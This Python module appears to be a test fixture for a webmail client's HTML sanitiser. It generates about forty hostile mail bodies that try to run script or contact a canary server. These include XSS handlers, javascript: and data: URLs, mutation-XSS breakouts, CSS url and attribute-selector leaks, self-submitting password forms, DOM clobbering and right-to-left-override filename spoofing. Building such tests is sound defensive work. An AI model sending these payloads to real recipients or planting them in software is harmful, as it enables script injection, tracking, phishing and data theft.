"""Hostile mails. Each body tries to run a script or to have something fetched from the canary, a server of the test.

A script that runs says so by parent.postMessage and by a request. The numbers are those that the tests name.
"""

from mails import raw

DEEP = 20_000


def bodies(canary):
    """[(what it tries, HTML)]"""

    def run(n):
        return f"parent.postMessage('ran {n}','*');new Image().src='{canary}/js{n}'"

    def at(path):
        return f"{canary}/{path}"

    import base64
    page = base64.b64encode(f"<script>{run(9)}</script>".encode()).decode()
    use = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" id="x"><image href="{at("use")}"/></svg>'.encode()).decode()
    return [
        ("script element", f"<script>{run(0)}</script>"),
        ("img onerror", f'<img src=x: onerror="{run(1)}">'),
        ("svg onload, slash as separator", f'<svg/onload="{run(2)}">'),
        ("body onload, onpageshow", f'<body onload="{run(3)}" onpageshow="{run(3)}">'),
        ("details ontoggle", f'<details open ontoggle="{run(4)}">x</details>'),
        ("input autofocus onfocus", f'<input autofocus onfocus="{run(5)}">'),
        ("video source onerror", f'<video><source src="x:" onerror="{run(6)}"></video>'),
        ("iframe javascript:", f'<iframe src="javascript:{run(7).replace("parent.", "parent.parent.")}"></iframe>'),
        ("iframe srcdoc with a script", f'<iframe srcdoc="<script>parent.{run(8)}</script>"></iframe>'),
        ("object and embed of data:text/html", f'<object data="data:text/html;base64,{page}"></object><embed src="data:text/html;base64,{page}">'),
        ("svg animate of a link", f'<svg><a><animate attributeName="href" values="javascript:{run(10)}"/><text y="20">x</text></a>'
                                  f'<animate onbegin="{run(10)}" attributeName="x" dur="1s"/></svg>'),
        ("svg use of data:", f'<svg><use href="data:image/svg+xml;base64,{use}#x"/></svg>'),
        ("math and style confused", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run(12)}&gt;">'),
        ("svg style foreignObject breakout", f'<svg><style><foreignObject><img src=x: onerror="{run(13)}"></style></svg>'),
        ("noscript", f'<noscript><p title="</noscript><img src=x: onerror={run(14).replace(" ", "&#32;")}>">'),
        ("meta refresh to javascript:", f'<meta http-equiv="refresh" content="0;url=javascript:{run(15)}">'),
        ("link stylesheet and modulepreload", f'<link rel="stylesheet" href="{at("css")}"><link rel="modulepreload" href="{at("mp")}">'),
        ("base href", f'<base href="{at("base/")}"><img src="a.png">'),
        ("remote image", f'<img src="{at("img")}" width="1" height="1">'),
        ("srcset and picture", f'<img srcset="{at("ss")} 1x"><picture><source srcset="{at("ps")}"><img src="x:"></picture>'),
        ("css urls", f'<style>p{{background:url({at("bg")});list-style:url({at("ls")});cursor:url({at("cu")}),auto;'
                     f'border-image:url({at("bi")}) 1;mask-image:url({at("mk")})}}</style><p style="border:3px solid">x</p>'
                     f'<div style="background:url({at("in")})">y</div>'),
        ("css var hides a url", f'<style>:root{{--u:url({at("var")})}}p{{background:var(--u)}}</style><p>x</p>'),
        ("css import and font", f'<style>@import "{at("imp")}";@font-face{{font-family:f;src:url({at("ff")})}}p{{font-family:f}}</style><p>x</p>'),
        ("css image-set and escapes", f'<style>p{{background:image-set("{at("is")}" 1x)}}b{{background:\\75rl({at("esc")})}}</style><p>x</p><b>y</b>'),
        ("svg image, feImage, fill", f'<svg width="9" height="9"><image href="{at("si")}" width="9" height="9"/>'
                                     f'<filter id="f"><feImage href="{at("fe")}"/></filter>'
                                     f'<rect width="9" height="9" filter="url(#f)" fill="url({at("fill")}#a)"/></svg>'),
        ("svg animate fill", f'<svg><rect width="9" height="9"><animate attributeName="fill" values="url({at("af")}#a)" dur="1s"/></rect></svg>'),
        ("background attributes", f'<body background="{at("bb")}"><table background="{at("tb")}"><tr><td>x</table>'),
        ("audio, video, poster, track", f'<audio src="{at("au")}" autoplay></audio><video src="{at("vi")}" poster="{at("po")}" autoplay muted>'
                                        f'<track src="{at("tr")}" default></video>'),
        ("prefetch, preload, preconnect", "".join(
            f'<link rel="{kind}" href="{at(name)}" as="image">' for kind, name in
            [("dns-prefetch", "dp"), ("preconnect", "pc"), ("prefetch", "pf"), ("prerender", "pr"), ("preload", "pl")])),
        ("remote iframe, object, embed", f'<iframe src="{at("if")}"></iframe><object data="{at("ob")}"></object><embed src="{at("em")}">'),
        ("input image", f'<form action="{at("fa")}"><input type="image" src="{at("ii")}"><button formaction="{at("fb")}">x</button></form>'),
        ("css attribute selectors leak", f'<style>input[value^="s"]{{background:url({at("leak")})}}</style><input value="secret">'),
        ("speculation rules", f'<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{at("sr")}"]}}]}}</script>'),
        ("meta refresh navigates", f'<meta http-equiv="refresh" content="0;url={at("mr")}">'),
        ("form that sends itself", f'<form id="f" action="{at("fo")}"></form><script>document.getElementById("f").submit();{run(34)}</script>'),
        ("link to the top", f'<a href="{at("top")}" target="_top" style="position:absolute;inset:0;background:#eee">press me</a>'),
        ("form for a password", f'<form action="{at("pw")}"><input type="password" name="p" value="x">'
                                '<button style="position:absolute;inset:0">Sign in</button></form>'),
        ("overlay", '<div style="position:fixed;inset:-2000px;background:red;z-index:2147483647">x</div>'),
        ("policy of its own", f'<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url"><img src="{at("rf")}">'),
        ("names of the document clobbered", f'<form id="body" name="getElementById"><input name="attributes"></form><img name="currentScript" src="{at("cl")}">'),
        ("huge picture in data:", '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 width=%22100000%22 height=%22100000%22/%3E" width="10">'),
        ("deep", "<div>" * DEEP + "x"),
    ]


MARKUP = '<img src=x: onerror="parent.postMessage(\'ran\',\'*\');pwned=1" class=pwned>'


def mails(canary):
    """The bodies as mails, and mails that are hostile elsewhere. The subject is "payload N" or has a word to find."""
    found = [raw(1000 + n, "victim@example.org", f"To: victim@example.org\r\nSubject: payload {n}: {what}", html)
             for n, (what, html) in enumerate(bodies(canary))]
    word = MARKUP.replace('"', "&quot;")
    found.append(raw(900, "victim@example.org",
                     f"From: \"{MARKUP.replace(chr(34), '')}\" <m@evil.example>\r\nTo: \"{word}\" <victim@example.org>\r\n"
                     f"X-Mark: {MARKUP}\r\nSubject: fields {MARKUP}", MARKUP, "text/plain; charset=utf-8"))
    found.append(raw(899, "victim@example.org", "To: victim@example.org\r\nSubject: links", "\r\n".join([
        "javascript:alert(1) data:text/html,x <http://a.example/<script>> [<http://b.example/x\" onclick=y>]",
        "https://good.example/path?a=1&b=2, and (https://round.example/a_(b)).",
        "https://evil.example\u202egpj.exe"]), "text/plain; charset=utf-8"))
    found.append(raw(898, "victim@example.org",
                     "From: \"\u202emoc.elpmaxe@knab\" <m@evil.example>\r\nTo: victim@example.org\r\nSubject: turned \u202etxet",
                     "x", "text/plain; charset=utf-8"))
    part = "--b\r\nContent-Type: {}\r\nContent-Disposition: {}; filename=\"{}\"\r\n\r\n{}\r\n"
    script = f"<script>new Image().src='{canary}/part'</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'
    found.append(raw(897, "victim@example.org", "To: victim@example.org\r\nSubject: parts",
                     "--b\r\nContent-Type: text/plain\r\n\r\nparts\r\n"
                     + part.format("text/html", "inline", "a.html", script)
                     + part.format("image/svg+xml", "inline", "a.svg", svg)
                     + part.format("application/xhtml+xml", "attachment", "a.xhtml", script)
                     + part.format("text/plain", "attachment", "<b>../../x\\\"y.txt", script)
                     + part.format("image/png", "attachment", "annexe\u202egnp.exe", script) + "--b--",
                     "multipart/mixed; boundary=b"))
    return found
